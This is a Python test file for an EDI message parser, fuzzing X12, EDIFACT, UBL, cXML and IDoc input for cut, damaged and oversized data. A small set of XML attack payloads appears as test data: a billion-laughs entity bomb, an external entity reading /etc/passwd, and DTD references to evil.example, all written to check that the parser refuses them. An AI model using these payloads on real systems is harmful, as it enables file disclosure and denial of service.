"""Input that is broken on purpose: told, bounded, never a traceback, and what was whole comes through."""

from __future__ import annotations

import contextlib
import io
import resource
import sys
import tracemalloc

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from scm_automate.connectors import edi
from scm_automate.errors import LimitExceeded, ScmError, SourceNotRecognised

RESPONSE = (
    "BAK*00*AC*4500012345*20260302",
    "PO1*10*500*EA*1.25*PE*BP*A-1",
    "ACK*IA*500*EA*067*20260320",
    "PO1*20*500*EA*1.25*PE*BP*A-2",
    "ACK*DR*500*EA*067*20260410",
    "CTT*2",
)
ORDRSP = (
    "BGM+231+SO?'77+4", "DTM+137:20260304:102", "RFF+ON:4500012345", "LIN+10+5",
    "QTY+113:500:PCE", "DTM+67:20260320:102", "LIN+20+3", "QTY+113:500", "DTM+67:20260410:102",
    "UNS+S", "CNT+2:2",
)  # fmt: skip
UBL = (
    "<cbc:ID>7</cbc:ID><cac:OrderReference><cbc:ID>45</cbc:ID></cac:OrderReference>"
    "<cac:OrderLine><cac:LineItem><cbc:ID>1</cbc:ID><cbc:LineStatusCode>5</cbc:LineStatusCode>"
    "<cbc:Quantity>500</cbc:Quantity></cac:LineItem></cac:OrderLine>"
    "<cac:OrderLine><cac:LineItem><cbc:ID>2</cbc:ID><cbc:LineStatusCode>7</cbc:LineStatusCode>"
    "<cbc:Quantity>20</cbc:Quantity></cac:LineItem></cac:OrderLine>"
)
CXML = (
    '<ConfirmationRequest><ConfirmationHeader type="except"/><OrderReference orderID="45"/>'
    '<ConfirmationItem lineNumber="10" quantity="5"><ConfirmationStatus type="accept" quantity="5"'
    ' deliveryDate="2026-03-20"/></ConfirmationItem></ConfirmationRequest>'
)
IDOC = (
    "<E1EDK02><QUALF>001</QUALF><BELNR>45</BELNR></E1EDK02><E1EDP01><POSEX>10</POSEX>"
    "<E1EDP20><WMENG>5</WMENG><EDATU>20260320</EDATU></E1EDP20></E1EDP01>"
)

KINDS = ["x12", "edifact", "ubl", "cxml", "idoc"]


@pytest.fixture(scope="session")
def message(x12, edifact, ubl, cxml, idoc):
    """A message of each standard."""

    def made(kind):
        return {
            "x12": lambda: x12("855", *RESPONSE),
            "edifact": lambda: edifact("ORDRSP", *ORDRSP),
            "ubl": lambda: ubl("OrderResponse", UBL),
            "cxml": lambda: cxml(CXML),
            "idoc": lambda: idoc("ORDRSP", IDOC),
        }[kind]()

    return made


@pytest.mark.parametrize("kind", KINDS)
def test_a_file_cut_anywhere_is_told_and_never_says_more_than_the_whole(message, kind):
    raw = message(kind)
    whole = edi.read(raw).documents[0]
    answers = {line.line: line for line in whole.lines}
    for cut in range(len(raw)):
        try:
            file = edi.read(raw[:cut])
        except SourceNotRecognised:
            continue
        unfinished = raw[cut:].strip() not in (b"", b"~", b"'")
        assert file.faults or not unfinished, (cut, raw[:cut][-40:])
        for document in file.documents:
            # Nothing that is told of a part differs from what the whole says, or it is marked.
            assert document.order in (None, whole.order), raw[:cut][-60:]
            for line in document.lines:
                same = line == answers.get(line.line)
                assert same or document.complete == "cut", (cut, line)


@pytest.mark.parametrize("kind", KINDS)
@given(data=st.data())
def test_a_damaged_file_is_told_or_refused_never_a_traceback(message, kind, data):
    raw = bytearray(message(kind))
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(raw) - 1))
        how = data.draw(st.sampled_from(["set", "drop", "double"]))
        if how == "set":
            raw[at] = data.draw(st.integers(0, 255))
        elif how == "drop" and len(raw) > 1:
            del raw[at]
        else:
            raw[at:at] = raw[at : at + data.draw(st.integers(1, 40))]
    try:
        file = edi.read(bytes(raw))
    except ScmError:
        return
    assert isinstance(file.model_dump(mode="json")["faults"], list)


@given(st.binary(max_size=400))
@example(b"")
@example(b"ISA")
@example(b"ISA*\n~")
@example(b"UNA:+.? '")
@example(b"UNA      ")
@example(b"UNAABCDEF")
@example(b"UNB+")
@example(b"<")
@example(b"<Order")
@example(b"<cXML/>")
@example(b"<Order/>")
@example(b"EDI_DC40")
@example(b"\xff\xfe<\x00")
@example(b"\x00" * 100)
@example(b"GS*PO*1~ST*850*1~")
def test_any_bytes_are_read_or_refused(raw):
    for start in (
        b"",
        b"ISA*",
        b"UNB+UNOA:1+",
        b"UNH+1+ORDRSP",
        b"<Order>",
        b"<cXML>",
        b"EDI_DC40",
    ):
        with contextlib.suppress(ScmError):
            assert edi.read(start + raw).standard


@pytest.mark.parametrize(
    "raw", [b"", b"   \n", b"%PDF-1.7", b"PK\x03\x04", b"Hello, all fine", b"<html/>"]
)
def test_what_is_no_message_is_refused_by_name(raw):
    with pytest.raises(SourceNotRecognised, match=r"\S"):
        edi.read(raw)


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE Order [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><Order><ID>&i;</ID></Order>"
)
DECLARED = {
    "a billion laughs": LAUGHS,
    "one entity": '<!DOCTYPE Order [<!ENTITY a "b">]><Order><ID>&a;</ID></Order>',
    "a file of the system": '<!DOCTYPE Order [<!ENTITY a SYSTEM "file:///etc/passwd">]><Order><ID>&a;</ID></Order>',
    "a parameter entity": '<!DOCTYPE Order [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><Order/>',
    "attributes that a DTD adds": '<!DOCTYPE Order [<!ATTLIST Order x CDATA "1">]><Order/>',
    "cXML with declarations of its own": '<!DOCTYPE cXML SYSTEM "http://evil.example/x.dtd" [<!ENTITY a "b">]><cXML/>',
}


@pytest.mark.parametrize("name", DECLARED)
def test_entities_and_dtds_are_refused_and_nothing_of_them_is_read(name):
    file = edi.read(DECLARED[name].encode())
    assert "xml_entities" in [fault.code for fault in file.faults]
    assert all(document.order is None and not document.lines for document in file.documents)


def test_a_dtd_that_is_only_named_is_not_fetched(monkeypatch, cxml):
    def refused(*_arguments, **_options):
        raise AssertionError("something was opened")

    monkeypatch.setattr("socket.socket", refused)
    monkeypatch.setattr("urllib.request.urlopen", refused)
    file = edi.read(cxml(CXML))
    assert file.documents[0].order == "45"
    assert file.faults == ()
    named = b'<!DOCTYPE Order SYSTEM "http://evil.example/x.dtd"><Order><ID>45</ID></Order>'
    file = edi.read(named)
    assert [fault.code for fault in file.faults] == ["doctype"]
    assert file.documents[0].order == "45"


def test_an_undefined_entity_breaks_the_file_and_is_told():
    file = edi.read(b"<Order><ID>45</ID><Note>&nbsp;</Note></Order>")
    assert [fault.code for fault in file.faults] == ["xml_broken"]
    assert file.documents[0].complete == "cut"
    assert file.documents[0].order == "45"


def test_nesting_is_bounded():
    raw = b"<Order><ID>45</ID>" + b"<a>" * 5_000
    file = edi.read(raw)
    assert [fault.code for fault in file.faults] == ["xml_limit"]
    assert file.documents[0].complete == "cut"


@pytest.mark.parametrize(
    ("limits", "code"),
    [
        (edi.EdiLimits(max_elements=5), "xml_limit"),
        (edi.EdiLimits(max_text=2), "xml_limit"),
        (edi.EdiLimits(max_xml_bytes=100), "xml_limit"),
    ],
)
def test_xml_beyond_a_limit_is_told_and_marked(ubl, limits, code):
    file = edi.read(ubl("OrderResponse", UBL), limits=limits)
    assert code in [fault.code for fault in file.faults]
    assert all(document.complete == "cut" for document in file.documents)


def test_an_xml_line_that_is_cut_is_left_out_whole(ubl):
    raw = ubl("OrderResponse", UBL)
    at = raw.index(b"<cbc:Quantity>20") + len(b"<cbc:Quantity>2")
    file = edi.read(raw[:at])
    (document,) = file.documents
    assert [line.line for line in document.lines] == ["1"]
    assert document.complete == "cut"
    assert [fault.code for fault in file.faults] == ["xml_broken"]


@pytest.mark.parametrize("kind", ["x12", "edifact"])
def test_a_segment_without_end_is_bounded_and_told(message, kind):
    raw = message(kind)
    whole = edi.read(raw).documents
    end = {"x12": b"ISA*00*", "edifact": b"UNB+UNOC:3+"}[kind]
    file = edi.read(raw + end + b"A" * 3_000_000)
    assert file.documents[: len(whole)] == whole
    assert {fault.code for fault in file.faults} & {"segment_too_long", "segment_cut", "segment_outside", "envelope_missing", "data_after_interchange"}  # fmt: skip


def test_a_segment_without_end_within_a_transaction(x12):
    raw = x12("855", *RESPONSE).replace(b"CTT*2~", b"MSG*" + b"A" * 3_000_000)
    file = edi.read(raw)
    assert "segment_too_long" in [fault.code for fault in file.faults]
    (document,) = file.documents
    assert document.complete == "cut"
    assert [line.line for line in document.lines] == ["10", "20"]


@pytest.mark.parametrize("kind", ["x12", "edifact"])
def test_segments_of_one_document_are_bounded(message, kind):
    raw = message(kind)
    filler = {"x12": (b"CTT*2~", b"MSG*A~"), "edifact": (b"UNS+S'", b"FTX+AAI'")}[kind]
    raw = raw.replace(filler[0], filler[1] * 5_000 + filler[0])
    file = edi.read(raw, limits=edi.EdiLimits(max_segments=1_000))
    assert "too_many_segments" in [fault.code for fault in file.faults]
    assert file.documents[0].complete == "cut"


def test_bytes_of_a_stream_are_bounded(x12):
    raw = x12("855", *RESPONSE)
    with pytest.raises(LimitExceeded, match="larger than"):
        edi.read(raw * 10, limits=edi.EdiLimits(max_bytes=1_000))


def test_faults_are_bounded(x12):
    raw = x12("855", *(RESPONSE[:1] + ("PO1*10*x*EA", "ACK*ZZ*y*EA") * 3_000))
    file = edi.read(raw)
    assert len(file.faults) == 1_001
    assert file.faults[-1].code == "more_faults"
    assert file.faults[-1].text.startswith("8000 more")


def test_long_identifiers_are_cut_and_do_not_break_the_record(x12, edifact):
    long = "9" * 5_000
    for raw in (
        x12("855", f"BAK*00*AC*{long}*20260302", f"PO1*{long}*5*EA**PE*BP*{long}", f"ACK*{long}*5"),
        edifact("ORDRSP", f"BGM+231+{long}+4", f"RFF+ON:{long}", f"LIN+{long}+{long}", "QTY+113:5"),
    ):
        (document,) = edi.read(raw).documents
        assert len(document.order) == 200
        assert document.model_dump(mode="json")


def test_memory_stays_flat_over_a_long_stream(x12):
    """Ten times the stream must not need more memory."""
    one = x12("855", *(RESPONSE[:1] + RESPONSE[1:5] * 20))

    def peak(times):
        tracemalloc.start()
        count = sum(
            len(part.document.lines) for part in edi.stream(_Repeated(one, times)) if part.document
        )
        top = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert count == 40 * times
        return top

    peak(5)  # what is cached once is not counted
    assert peak(600) < 1.5 * peak(60) + 500_000


class _Repeated(io.RawIOBase):
    """A file that holds the same bytes many times, and never holds them at once."""

    def __init__(self, part, times):
        self.part, self.times, self.at = part, times, 0

    def read(self, size=-1):
        whole = len(self.part) * self.times
        size = whole if size < 0 else size
        start = self.at % len(self.part)
        piece = self.part[start : start + size][: max(0, whole - self.at)]
        self.at += len(piece)
        return piece

    def seek(self, offset, whence=0):
        assert (offset, whence) == (0, 0)
        self.at = 0
        return 0


@pytest.mark.skipif(sys.platform == "win32", reason="measures the process on POSIX")
def test_a_declared_count_of_two_billion_costs_nothing(x12):
    raw = x12("855", *RESPONSE).replace(b"CTT*2~", b"CTT*2000000000~")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    file = edi.read(raw.replace(b"SE*8*", b"SE*2147483647*").replace(b"GE*1*", b"GE*2147483647*"))
    assert {fault.code for fault in file.faults} == {
        "line_count",
        "segment_count",
        "transaction_count",
    }
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000
